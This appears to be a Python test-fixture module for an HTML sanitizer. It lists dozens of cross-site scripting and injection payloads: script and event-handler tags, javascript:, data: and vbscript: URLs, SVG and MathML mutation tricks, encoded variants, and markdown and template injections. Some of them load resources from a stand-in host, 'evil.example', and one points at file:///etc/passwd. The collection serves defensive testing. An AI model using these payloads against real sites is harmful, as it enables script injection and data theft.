"""Texts that would run or fetch something if anybody took them for more than text."""

from __future__ import annotations

from pathlib import Path

EVIL = "//evil.example"
HIT = "window.hacked=1"

_PLAIN = f"""
<script>{HIT}</script>
<script src={EVIL}/s.js></script>
<SCRIPT/x>{HIT}</SCRIPT>
<scr<script>ipt>{HIT}</scr</script>ipt>
<script type=module>{HIT}</script>
<script>{HIT}//
</script><script>{HIT}</script>
<img src={EVIL}/i onerror={HIT}>
<img src=x onerror="{HIT}">
<img/src=x/onerror={HIT}>
<IMG SRC=`x` ONERROR="{HIT}">
<img srcset="{EVIL}/i 1x" alt=x>
<image src={EVIL}/image>
<picture><source srcset={EVIL}/p><img></picture>
<svg onload={HIT}>
<svg><script>{HIT}</script></svg>
<svg><animate onbegin={HIT} attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x onload={HIT}>#x"/></svg>
<svg><image href={EVIL}/svg /></svg>
<svg><a xlink:href="javascript:{HIT}"><text>x</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.{HIT}</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style></mglyph></table></mtext></math>
<math href="javascript:{HIT}">x</math>
<iframe src="javascript:parent.{HIT}"></iframe>
<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>
<iframe src={EVIL}/f></iframe>
<frameset onload={HIT}><frame src={EVIL}/frame></frameset>
<object data="javascript:{HIT}"></object>
<object data={EVIL}/o></object>
<embed src={EVIL}/e>
<embed src="data:text/html,<script>parent.{HIT}</script>">
<applet code={EVIL}/a></applet>
<a href="javascript:{HIT}">x</a>
<a href="JaVaScRiPt:{HIT}">x</a>
<a href="java\tscript:{HIT}">x</a>
<a href="&#106;avascript:{HIT}">x</a>
<a href="data:text/html,<script>{HIT}</script>">x</a>
<a href="vbscript:{HIT}">x</a>
<a href={EVIL}/ping ping={EVIL}/ping>x</a>
<form action="javascript:{HIT}"><button>x</button></form>
<form action={EVIL}/form><input type=submit autofocus></form>
<button formaction="javascript:{HIT}">x</button>
<input autofocus onfocus={HIT}>
<input type=image src={EVIL}/input>
<select autofocus onfocus={HIT}></select>
<textarea autofocus onfocus={HIT}></textarea>
<details open ontoggle={HIT}>x</details>
<video src={EVIL}/v onerror={HIT} autoplay></video>
<video poster={EVIL}/poster></video>
<audio src={EVIL}/a onerror={HIT}></audio>
<source onerror={HIT}>
<body onload={HIT}>
<body background={EVIL}/bg>
<table background={EVIL}/table><tr><td>x</td></tr></table>
<marquee onstart={HIT}>x</marquee>
<div style="background:url({EVIL}/css)">x</div>
<div style="width:expression({HIT})">x</div>
<style>@import '{EVIL}/import';</style>
<style>*{{background:url({EVIL}/style)}}</style>
<style><img src=x onerror={HIT}></style>
<link rel=stylesheet href={EVIL}/l.css>
<link rel=prefetch href={EVIL}/prefetch>
<link rel=dns-prefetch href={EVIL}>
<link rel=import href={EVIL}/import>
<meta http-equiv=refresh content="0;url={EVIL}/refresh">
<meta http-equiv=refresh content="0;url=javascript:{HIT}">
<base href={EVIL}/base/>
<template><script>{HIT}</script></template>
<noscript><p title="</noscript><img src=x onerror={HIT}>">
<title></title><img src=x onerror={HIT}>
<textarea></textarea><img src=x onerror={HIT}>
<!--><img src=x onerror={HIT}>-->
<!-- --!><img src=x onerror={HIT}>
<![CDATA[<img src=x onerror={HIT}>]]>
<?xml version="1.0"?><x onload={HIT}/>
<x onclick={HIT} onpointerover={HIT} onanimationstart={HIT} style="animation:x 1s">x</x>
<accord-chat data-server=https:{EVIL}></accord-chat>
<slot onslotchange={HIT}></slot>
<portal src={EVIL}/portal></portal>
"><img src=x onerror={HIT}>
'><img src=x onerror={HIT}>
" autofocus onfocus={HIT} x="
' onmouseover={HIT} '
`-{HIT}-`
javascript:{HIT}
javascript://%0a{HIT}
data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=
[x](javascript:{HIT})
[x]( javascript:{HIT} "t")
![x]({EVIL}/markdown.png)
![x][r] [r]: https:{EVIL}/reference.png
[![x]({EVIL}/i)](javascript:{HIT})
<javascript:{HIT}>
<https:{EVIL}/auto>
https:{EVIL}/bare
$\\href{{javascript:{HIT}}}{{x}}$
{{{{constructor.constructor('{HIT}')()}}}}
${{{HIT}}} #{{{HIT}}} <%= {HIT} %>
&lt;img src=x onerror={HIT}&gt;
&#60;script&#62;{HIT}&#60;/script&#62;
\\u003cscript\\u003e{HIT}\\u003c/script\\u003e
%3Cscript%3E{HIT}%3C/script%3E
+ADw-script+AD4-{HIT}+ADw-/script+AD4-
event: answer data: {{"id":"forged"}}
__proto__ constructor prototype toString
""".strip().splitlines()

PAYLOADS = tuple(dict.fromkeys(_PLAIN))

HOSTILE_ADDRESSES = (
    f"javascript:{HIT}",
    f" javascript:{HIT}",
    f"JAVASCRIPT:{HIT}",
    f"java\nscript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f"vbscript:{HIT}",
    "file:///etc/passwd",
    f"blob:{HIT}",
    EVIL,
    f'https://example.org/" onclick="{HIT}',
)


def bleach_texts(shared: Path) -> list[str]:
    """The inputs of bleach's own tests, from the folder of real material; none without it."""
    folder = shared / "bench" / "security" / "bleach" / "data"
    texts = [path.read_text(encoding="utf-8") for path in sorted(folder.glob("*.test"))]
    return [text.partition("\n--\n")[0].strip() for text in texts]
